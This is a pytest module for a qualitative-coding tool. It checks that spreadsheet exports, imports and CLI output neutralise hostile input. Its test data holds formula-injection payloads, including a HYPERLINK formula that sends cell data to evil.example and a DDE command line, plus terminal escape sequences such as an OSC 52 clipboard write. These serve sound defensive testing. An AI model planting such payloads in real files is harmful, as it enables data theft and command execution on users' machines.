"""Hostile content from outside: formulas in spreadsheets, terminal escapes, runaway ranges, leaks.

Each test is one probe of issue 17; the module docstring of qcoder.store.safe_text says the rules.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import sqlite3
import time
from pathlib import Path

import pytest
from factories import add_document, qc
from openpyxl import load_workbook
from sqlalchemy import func, insert, select

from qcoder.analysis.table import Table
from qcoder.analysis.writers import to_csv, to_xlsx
from qcoder.coding.workbench import Workbench
from qcoder.errors import Conflict, NotFound, QcoderError
from qcoder.exchange.codebook import export_csv, export_xlsx
from qcoder.exchange.codebook_read import parse_csv
from qcoder.store.database import Project, open_project
from qcoder.store.file_care import PART_AGE_S
from qcoder.store.models import Coder, Coding, Sentence
from qcoder.store.safe_text import visible

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"]
DATA = Path(__file__).resolve().parent / "data"


# --------------------------------------------------------------------------- spreadsheets


def test_report_cells_are_text_in_csv_and_xlsx() -> None:
    table = Table("codes", ["code", "n"], [[name, 3] for name in FORMULAS] + [["-0.5", -1]])
    rows = list(csv.reader(io.StringIO(to_csv([table]))))
    for name, row in zip(FORMULAS, rows[1:], strict=False):
        assert row[0] == "'" + name  # OWASP: a leading apostrophe keeps it text
    assert rows[-1] == ["-0.5", "-1"]  # a number stays a number
    sheet = load_workbook(io.BytesIO(to_xlsx([table]))).active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=1) for r in range(2, 2 + len(FORMULAS))]
    assert [c.value for c in cells] == FORMULAS
    assert {c.data_type for c in cells} == {"s"}  # text cells, never formulas


def test_codebook_exports_keep_formula_names_as_text_and_read_them_back(project: Project) -> None:
    bench = Workbench(project, "小王")
    for name in FORMULAS[:4]:
        bench.create_code(name, 0)
    with project.session() as session:
        exported_csv, exported_xlsx = export_csv(session), export_xlsx(session)
    rows = list(csv.DictReader(io.StringIO(exported_csv.decode("utf-8-sig"))))
    assert {row["name"] for row in rows} == {"'" + name for name in FORMULAS[:4]}
    sheet = load_workbook(io.BytesIO(exported_xlsx))["Codebook"]
    names = [(cell.value, cell.data_type) for cell in sheet["A"][1:]]
    assert {value for value, _ in names} == set(FORMULAS[:4]) and {kind for _, kind in names} == {"s"}
    parsed = parse_csv(exported_csv, source="codebook.csv")
    assert {entry.name for entry in parsed.entries} == set(FORMULAS[:4])  # the import keeps them as text


# --------------------------------------------------------------------------- terminal escapes

HOSTILE = "第一句话在这里。\x1b]0;pwned\x07完成了。\n受访者说\x1b[2J清屏\u009b31m了。\n"


def test_imported_text_shows_control_characters_as_placeholders(tmp_path: Path, db_url: str) -> None:
    source = tmp_path / "访谈.txt"
    source.write_text(HOSTILE, encoding="utf-8")
    code, out, _ = qc("import", "--db", db_url, str(source))
    assert code == 0
    assert "4 control characters" in out and "visible placeholders" in out  # reported at import
    with open_project(db_url) as project, project.session() as session:
        texts = session.scalars(select(Sentence.text)).all()
    joined = "".join(texts)
    assert "\x1b" not in joined and "\x07" not in joined and "\u009b" not in joined
    assert "␛]0;pwned␇" in joined and "␛[2J" in joined and "\ufffd31m" in joined
    code, shown, _ = qc("show", "D01", "--db", db_url)
    assert "\x1b" not in shown and "␛]0;pwned␇" in shown


@pytest.mark.parametrize("name", ["x\x1b]0;t\x1b\\", "bell\x07", "csi\u009b2J"])
def test_control_characters_refused_in_code_and_coder_names(project: Project, name: str) -> None:
    add_document(project, ["一句话。"])
    bench = Workbench(project, "小王")
    with pytest.raises(QcoderError, match="cannot contain control characters"):
        bench.create_code(name, 0)
    with pytest.raises(QcoderError, match="cannot contain control characters"):
        Workbench(project, name)


def test_memo_text_keeps_lines_and_shows_controls(project: Project) -> None:
    bench = Workbench(project, "小王")
    memo_id = bench.add_memo("第一行\r\n第二行\x1b[5m闪\x07", type_="theoretical", target="project", target_id=None)
    memos = bench.memos("project", None)
    text = next(m.text for m in memos if m.id == memo_id)
    assert text == "第一行\n第二行␛[5m闪␇"


def test_cli_output_never_carries_escapes_already_in_a_project(tmp_path: Path) -> None:
    """A project written before this check (a raw ESC in a code name) is shown with placeholders."""
    db = tmp_path / "old.qcoder"
    with open_project(str(db)) as project:
        add_document(project, ["一句话。"])
        Workbench(project, "小王").create_code("placeholder", 0)
    with sqlite3.connect(db) as raw:
        raw.execute("UPDATE codes SET name = ?", ("x\x1b]52;c;ZXZpbA==\x07",))  # OSC 52: write the clipboard
    code, out, _ = qc("codes", "--db", str(db))
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out
    assert visible("x\x1b]52;c;ZXZpbA==\x07") in out


# --------------------------------------------------------------------------- ranges, passwords, naming


def test_a_range_beyond_the_last_statement_is_refused_at_once(project: Project) -> None:
    add_document(project, ["一。", "二。", "三。"])
    bench = Workbench(project, "小王")
    with pytest.raises(NotFound, match="beyond D01's last statement D01-S003"):
        bench.statement_ids(["D01-S001..D01-S999999999"])
    assert len(bench.statement_ids(["D01-S001..3"])) == 3


def test_init_and_demo_mask_the_password(postgres_server, pg_url: str) -> None:  # type: ignore[no-untyped-def]
    with_password = pg_url.replace("postgresql+psycopg://qcoder@", "postgresql+psycopg://qcoder:Sup3r-s3cret@")
    code, out, err = qc("init", "--db", with_password)
    assert code == 0, err
    assert "Sup3r-s3cret" not in out + err and "***" in out
    code, out, err = qc("demo", "--no-tui", "--db", with_password)
    assert code == 0, err
    assert "Sup3r-s3cret" not in out + err and "***" in out


def test_errors_name_the_project_given_after_the_subcommand(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    default = tmp_path / "default.qcoder"
    monkeypatch.setenv("QCODER_DB", str(default))
    bad = tmp_path / "bad.qcoder"
    bad.write_bytes(b"SQLite format 3\0" + os.urandom(4000))
    code, _out, err = qc("show", "D03", "--db", str(bad))
    assert code == 1
    assert str(bad) in err and str(default) not in err


# --------------------------------------------------------------------------- project files


def test_a_project_in_a_sync_folder_is_warned_about(tmp_path: Path) -> None:
    for folder in ("Dropbox", "OneDrive - 北京大学", "坚果云"):
        path = tmp_path / folder / "论文" / "project.qcoder"
        with open_project(str(path)) as project:
            assert any("synced folder" in notice and folder in notice for notice in project.notices)
    with open_project(str(tmp_path / "plain" / "project.qcoder")) as project:
        assert not any("synced folder" in notice for notice in project.notices)


def test_vanishing_wal_is_warned_about(tmp_path: Path) -> None:
    path = tmp_path / "p.qcoder"
    with open_project(str(path)) as project:
        add_document(project, ["一句话。"])
        assert project.vanished_files() is None
        Path(f"{path}-wal").unlink()  # what a sync client does
        warning = project.vanished_files()
    assert warning is not None and "-wal vanished" in warning


def test_leftover_part_files_are_removed_on_the_next_start(tmp_path: Path) -> None:
    path = tmp_path / "p.qcoder"
    open_project(str(path)).close()
    stale = tmp_path / "p.backup-20261203-101010.qcoder.part"
    fresh = tmp_path / "p.backup-20261203-101011.qcoder.part"  # a backup running right now
    other = tmp_path / "notes.backup-20261203-101010.qcoder.part"
    for part in (stale, fresh, other):
        part.write_bytes(b"half a copy")
    old = time.time() - PART_AGE_S - 60
    os.utime(stale, (old, old))
    os.utime(other, (old, old))
    with open_project(str(path)) as project:
        assert any(stale.name in notice for notice in project.notices)
    assert not stale.exists() and fresh.exists() and other.exists()


def test_a_repeated_automatic_upgrade_writes_one_backup(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from qcoder.store import schema

    path = tmp_path / "old.qcoder"
    shutil.copy(DATA / "v0001_project.qcoder", path)
    real = schema.upgrade

    def interrupted(engine, revision="head"):  # type: ignore[no-untyped-def]
        raise QcoderError("the machine went to sleep")

    monkeypatch.setattr(schema, "upgrade", interrupted)
    with pytest.raises(QcoderError):
        open_project(str(path))
    monkeypatch.setattr(schema, "upgrade", real)
    with open_project(str(path)) as project:
        assert project.schema_found == "older"
    backups = [p for p in tmp_path.iterdir() if ".pre-" in p.name]
    assert len(backups) == 1


# --------------------------------------------------------------------------- foreign keys


def test_a_change_to_a_code_merged_meanwhile_says_who_did_it(project: Project) -> None:
    add_document(project, ["一句话。", "两句话。"])
    mine = Workbench(project, "研究者A")
    theirs = Workbench(project, "研究者B")
    source = mine.create_code("融资难", 0)
    target = theirs.create_code("融资约束", 0)
    theirs.merge_codes(source.id, target.id)
    with project.session() as session:
        sentence_id = session.scalar(select(Sentence.id).limit(1))
        coder_id = session.scalar(select(Coder.id).where(Coder.name == "研究者A"))
        before = session.scalar(select(func.count()).select_from(Coding))
    with pytest.raises(Conflict, match=r"^this code was merged by 研究者B a moment ago; refreshed"):
        project.run(
            lambda s: s.execute(insert(Coding).values(sentence_id=sentence_id, code_id=source.id, coder_id=coder_id))
        )
    with project.session() as session:
        assert session.scalar(select(func.count()).select_from(Coding)) == before


def test_a_qdpx_source_with_escapes_is_imported_with_placeholders(project: Project, tmp_path: Path) -> None:
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "exchange"))
    from exchange_helpers import FOREIGN_TEXT, foreign_qdpx

    from qcoder.exchange.qdpx_import import import_project

    text = FOREIGN_TEXT.replace("Breakfast notes", "Breakfast \x1b]0;pwned\x07notes")
    path = tmp_path / "in.qdpx"
    path.write_bytes(foreign_qdpx(text=text))
    report = project.run(lambda s: import_project(s, path))
    assert any("2 control characters" in line for line in report.lines())
    with project.session() as session:
        joined = "".join(session.scalars(select(Sentence.text)).all())
        codings = session.scalar(select(func.count()).select_from(Coding))
    assert "\x1b" not in joined and "␛]0;pwned␇notes" in joined
    plain = tmp_path / "plain.qdpx"
    plain.write_bytes(foreign_qdpx())
    with open_project(str(tmp_path / "plain.qcoder")) as other:
        other.run(lambda s: import_project(s, plain))
        with other.session() as session:
            expected = session.scalar(select(func.count()).select_from(Coding))
    assert codings == expected  # the selections still land where they were
